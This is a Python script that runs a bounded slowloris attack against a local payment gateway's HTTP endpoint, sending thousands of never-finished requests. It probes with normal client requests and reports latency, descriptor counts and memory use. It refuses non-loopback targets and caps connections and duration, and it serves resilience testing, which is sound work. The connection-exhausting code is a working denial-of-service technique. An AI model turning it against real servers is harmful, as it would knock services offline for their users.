"""A bounded slowloris against the embedded gateway's HTTP face, and how a normal client fared.

Usage: .venv/bin/python scripts/slowloris.py --target 127.0.0.1:8080 [--connections 3000]
       [--duration 30] [--interval 10] [--rate 1000] [--reopen] [--pid PID]

Opens ``--connections`` connections to ``--target`` (at most ``--rate`` a second), each sending a
request line and then one header line every ``--interval`` seconds, never finishing its request;
with ``--reopen``, a connection the server closes is opened again, as a persistent attacker
would. Meanwhile a normal client sends one whole CREATE_SESSION every ``--probe-every`` seconds
on a new connection, with a 5 s timeout. After ``--duration`` seconds everything is closed and a
report is printed: what the server did with the slow connections, how many of the normal client's
requests were answered and how fast, and, with ``--pid``, the target process's descriptors and
resident memory before, at peak, and after.

Loopback targets only: this is for trying a sandbox on your own machine, not anyone's server.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import ipaddress
import math
import os
import resource
import shlex
import socket
import sys
from collections import Counter
from collections.abc import Sequence
from dataclasses import dataclass, field
from pathlib import Path

from adapter.config import DEMO_MERCHANT, DEMO_PASSWORD, parse_host_port
from adapter.core import nvp

MAX_CONNECTIONS = 20_000
MAX_DURATION_SECONDS = 600.0
CONNECT_TIMEOUT = 5.0
PROBE_TIMEOUT = 5.0
SAMPLE_EVERY = 0.25
TIMELINE_STEP = 5.0
REFUSED_WITHIN = 2.0
MIB = 1024 * 1024


@dataclass
class Attack:
    """What became of the slow connections."""

    opened: int = 0
    open_now: int = 0
    peak_open: int = 0
    connect_failed: int = 0
    held_until_closed: list[float] = field(default_factory=list)
    """Seconds each connection the server closed had been open."""


@dataclass
class Probes:
    """What the normal client saw: outcome counts and the latencies of answered requests."""

    outcomes: Counter[str] = field(default_factory=Counter)
    latencies: list[float] = field(default_factory=list)
    timeline: list[tuple[float, bool]] = field(default_factory=list)
    """(seconds into the attack, answered 201) for each request."""


@dataclass
class Target:
    """Samples of the target process: descriptors and resident memory."""

    pid: int
    descriptors: list[int] = field(default_factory=list)
    rss: list[int] = field(default_factory=list)

    def sample(self) -> None:
        with contextlib.suppress(OSError):
            self.descriptors.append(len(os.listdir(f"/proc/{self.pid}/fd")))
            for line in Path(f"/proc/{self.pid}/status").read_text().splitlines():
                if line.startswith("VmRSS:"):
                    self.rss.append(int(line.split()[1]) * 1024)


def probe_request(host: str, merchant: str, password: str) -> bytes:
    body = nvp.encode(
        {
            "apiOperation": "CREATE_SESSION",
            "apiUsername": f"merchant.{merchant}",
            "apiPassword": password,
            "merchant": merchant,
        }
    )
    return (
        f"POST /api/nvp/version/100 HTTP/1.1\r\nHost: {host}\r\n"
        f"Content-Type: {nvp.CONTENT_TYPE}\r\nConnection: close\r\n"
        f"Content-Length: {len(body)}\r\n\r\n"
    ).encode() + body


async def slow_connection(
    host: str, port: int, args: argparse.Namespace, attack: Attack, stop_at: float
) -> None:
    """One slow client: open, trickle header lines; again after each close with ``--reopen``."""
    loop = asyncio.get_running_loop()
    while loop.time() < stop_at:
        try:
            reader, writer = await asyncio.wait_for(
                asyncio.open_connection(host, port), CONNECT_TIMEOUT
            )
        except (OSError, TimeoutError):
            attack.connect_failed += 1
            if not args.reopen:
                return
            await asyncio.sleep(0.5)
            continue
        attack.opened += 1
        attack.open_now += 1
        attack.peak_open = max(attack.peak_open, attack.open_now)
        opened_at = loop.time()
        try:
            writer.write(f"POST /api/nvp/version/100 HTTP/1.1\r\nHost: {host}\r\n".encode())
            closed = await trickle(reader, writer, args.interval, stop_at)
        finally:
            attack.open_now -= 1
            writer.close()
        if not closed:
            return
        attack.held_until_closed.append(loop.time() - opened_at)
        if not args.reopen:
            return


async def trickle(
    reader: asyncio.StreamReader, writer: asyncio.StreamWriter, interval: float, stop_at: float
) -> bool:
    """A header line every ``interval`` s until ``stop_at``; True if the server closed first."""
    loop = asyncio.get_running_loop()
    line = 0
    while loop.time() < stop_at:
        wait = min(interval, stop_at - loop.time())
        try:
            data = await asyncio.wait_for(reader.read(4096), max(wait, 0.001))
        except TimeoutError:
            if loop.time() >= stop_at:
                return False
            line += 1
            writer.write(f"X-Slow-{line}: {'x' * 16}\r\n".encode())
            continue
        except OSError:
            return True
        if not data:
            return True
    return False


async def probe(host: str, port: int, request: bytes, probes: Probes, began: float) -> None:
    """One whole request on a new connection, as a normal client sends it."""
    loop = asyncio.get_running_loop()
    started = loop.time()
    answered = False
    try:
        answered = await _probe(host, port, request, probes, started)
    finally:
        probes.timeline.append((started - began, answered))


async def _probe(host: str, port: int, request: bytes, probes: Probes, started: float) -> bool:
    loop = asyncio.get_running_loop()
    try:
        async with asyncio.timeout(PROBE_TIMEOUT):
            reader, writer = await asyncio.open_connection(host, port)
            try:
                writer.write(request)
                status_line = await reader.readline()
            finally:
                writer.close()
    except TimeoutError:
        probes.outcomes["timed out"] += 1
        return False
    except OSError:
        probes.outcomes["refused or reset"] += 1
        return False
    parts = status_line.split()
    if len(parts) < 2:
        probes.outcomes["closed unanswered"] += 1
        return False
    status = parts[1].decode(errors="replace")
    probes.outcomes[f"answered {status}"] += 1
    if status != "201":
        return False
    probes.latencies.append(loop.time() - started)
    return True


async def run(args: argparse.Namespace) -> None:
    host, port = args.host, args.port
    loop = asyncio.get_running_loop()
    attack, probes = Attack(), Probes()
    target = Target(args.pid) if args.pid else None
    if target is not None:
        target.sample()
    began = loop.time()
    stop_at = began + args.duration

    async def launch() -> list[asyncio.Task[None]]:
        tasks = []
        for n in range(args.connections):
            tasks.append(asyncio.create_task(slow_connection(host, port, args, attack, stop_at)))
            if (n + 1) % max(1, args.rate // 20) == 0:
                await asyncio.sleep(0.05)  # --rate connections a second, in steps of 1/20 s
            if loop.time() >= stop_at:
                break
        return tasks

    async def probing() -> None:
        request = probe_request(host, args.merchant, args.password)
        pending: set[asyncio.Task[None]] = set()
        while loop.time() < stop_at:
            task = asyncio.create_task(probe(host, port, request, probes, began))
            pending.add(task)
            task.add_done_callback(pending.discard)
            await asyncio.sleep(args.probe_every)
        await asyncio.gather(*pending)

    async def sampling() -> None:
        while target is not None and loop.time() < stop_at:
            target.sample()
            await asyncio.sleep(SAMPLE_EVERY)

    launched, _, _ = await asyncio.gather(launch(), probing(), sampling())
    await asyncio.gather(*launched)
    if target is not None:
        await asyncio.sleep(1.0)  # let the target see the closes before the last sample
        target.sample()
    report(args, attack, probes, target)


def percentile(values: Sequence[float], fraction: float) -> float:
    ordered = sorted(values)
    return ordered[max(0, min(len(ordered) - 1, round(fraction * len(ordered) + 0.5) - 1))]


def timeline(probes: Probes, duration: float) -> str:
    """``answered/sent`` for each step of the attack, e.g. ``10/10 0/10 3/10``."""
    steps = max(1, math.ceil(duration / TIMELINE_STEP))
    sent, answered = [0] * steps, [0] * steps
    for at, ok in probes.timeline:
        step = min(steps - 1, int(at // TIMELINE_STEP))
        sent[step] += 1
        answered[step] += ok
    return " ".join(f"{a}/{s}" for a, s in zip(answered, sent, strict=True))


def report(args: argparse.Namespace, attack: Attack, probes: Probes, target: Target | None) -> None:
    held = attack.held_until_closed
    # A refusal closes a connection at once, but a client busy opening a thousand connections a
    # second may notice it a moment later.
    refused = [h for h in held if h < REFUSED_WITHIN]
    timed = [h for h in held if h >= REFUSED_WITHIN]
    print(f"command: {shlex.join(['python', *sys.argv])}")
    print(
        f"attack: {args.connections:,} slow connections to {args.host}:{args.port}, one header "
        f"line every {args.interval:g} s "
        f"for {args.duration:g} s" + (", reopening what the server closes" if args.reopen else "")
    )
    print(
        f"  {attack.opened:,} connections opened, at most {attack.peak_open:,} open at once (as "
        f"the client saw it); "
        f"{attack.connect_failed:,} connects failed or timed out ({CONNECT_TIMEOUT:g} s)"
    )
    print(f"  closed by the server within {REFUSED_WITHIN:g} s of opening: {len(refused):,}")
    if timed:
        print(
            f"  closed by the server later: {len(timed):,}, after {percentile(timed, 0.5):.1f} s "
            f"(median), {max(timed):.1f} s at most"
        )
    else:
        print("  closed by the server later: 0")
    print(f"  still open when the attack ended: {attack.opened - len(held):,}")
    tries = sum(probes.outcomes.values())
    answered = probes.outcomes["answered 201"]
    others = ", ".join(
        f"{n:,} {what}" for what, n in probes.outcomes.most_common() if what != "answered 201"
    )
    if not tries:
        print("normal client: no requests made")
        return
    print(
        f"normal client: {tries} requests (a new connection every {args.probe_every:g} s, "
        f"{PROBE_TIMEOUT:g} s timeout): {answered} answered 201 ({answered / tries:.0%})"
        + (f"; {others}" if others else "")
    )
    print(f"  answered, per {TIMELINE_STEP:g} s of the attack: {timeline(probes, args.duration)}")
    if probes.latencies:
        print(
            f"  answered in p50 {percentile(probes.latencies, 0.5) * 1000:.0f} ms, "
            f"p95 {percentile(probes.latencies, 0.95) * 1000:.0f} ms, "
            f"max {max(probes.latencies) * 1000:.0f} ms"
        )
    if target is not None and target.descriptors and target.rss:
        print(
            f"target pid {target.pid}: descriptors {target.descriptors[0]} before, "
            f"{max(target.descriptors)} at peak, {target.descriptors[-1]} after; "
            f"RSS {target.rss[0] / MIB:.0f} MiB before, {max(target.rss) / MIB:.0f} MiB at "
            f"peak, {target.rss[-1] / MIB:.0f} MiB after"
        )


def loopback_only(host: str, port: int) -> None:
    """Exit 2 unless every address ``host`` resolves to is a loopback address."""
    try:
        infos = socket.getaddrinfo(host, port, type=socket.SOCK_STREAM)
    except socket.gaierror as exc:
        sys.exit(f"slowloris: cannot resolve {host}: {exc.strerror}")
    addresses = {info[4][0] for info in infos}
    if not all(ipaddress.ip_address(str(a).split("%")[0]).is_loopback for a in addresses):
        print(f"slowloris: {host} is not a loopback address; refusing", file=sys.stderr)
        sys.exit(2)


def enough_descriptors(connections: int) -> None:
    """Raise this process's open-file limit to what the attack needs, or exit 2."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    needed = connections + 256  # probes, the loop, stdio
    if soft >= needed:
        return
    if hard != resource.RLIM_INFINITY and hard < needed:
        print(
            f"slowloris: {connections} connections need about {needed} descriptors; the hard "
            f"limit is {hard}",
            file=sys.stderr,
        )
        sys.exit(2)
    resource.setrlimit(resource.RLIMIT_NOFILE, (needed, hard))


def parse_args(argv: Sequence[str] | None = None) -> argparse.Namespace:
    parser = argparse.ArgumentParser(description=(__doc__ or "").splitlines()[0])
    parser.add_argument("--target", required=True, metavar="HOST:PORT", help="loopback only")
    parser.add_argument("--connections", type=int, default=3000)
    parser.add_argument("--duration", type=float, default=30.0, help="seconds")
    parser.add_argument("--interval", type=float, default=10.0, help="seconds between lines")
    parser.add_argument("--rate", type=int, default=1000, help="new connections a second")
    parser.add_argument("--reopen", action="store_true", help="reopen what the server closes")
    parser.add_argument("--probe-every", type=float, default=0.5, help="seconds")
    parser.add_argument("--merchant", default=DEMO_MERCHANT)
    parser.add_argument("--password", default=DEMO_PASSWORD)
    parser.add_argument("--pid", type=int, help="the target's process id, to sample it")
    args = parser.parse_args(argv)
    try:
        args.host, args.port = parse_host_port(args.target)
    except ValueError as exc:
        parser.error(f"--target: {exc}")
    if not 1 <= args.connections <= MAX_CONNECTIONS:
        parser.error(f"--connections must be 1 to {MAX_CONNECTIONS}")
    if not 0 < args.duration <= MAX_DURATION_SECONDS:
        parser.error(f"--duration must be above 0 and at most {MAX_DURATION_SECONDS:g}")
    for name in ("interval", "probe_every"):
        if not getattr(args, name) > 0:
            parser.error(f"--{name.replace('_', '-')} must be above 0")
    if args.rate < 1:
        parser.error("--rate must be at least 1")
    return args


def main() -> None:
    args = parse_args()
    loopback_only(args.host, args.port)
    enough_descriptors(args.connections)
    asyncio.run(run(args))


if __name__ == "__main__":
    main()
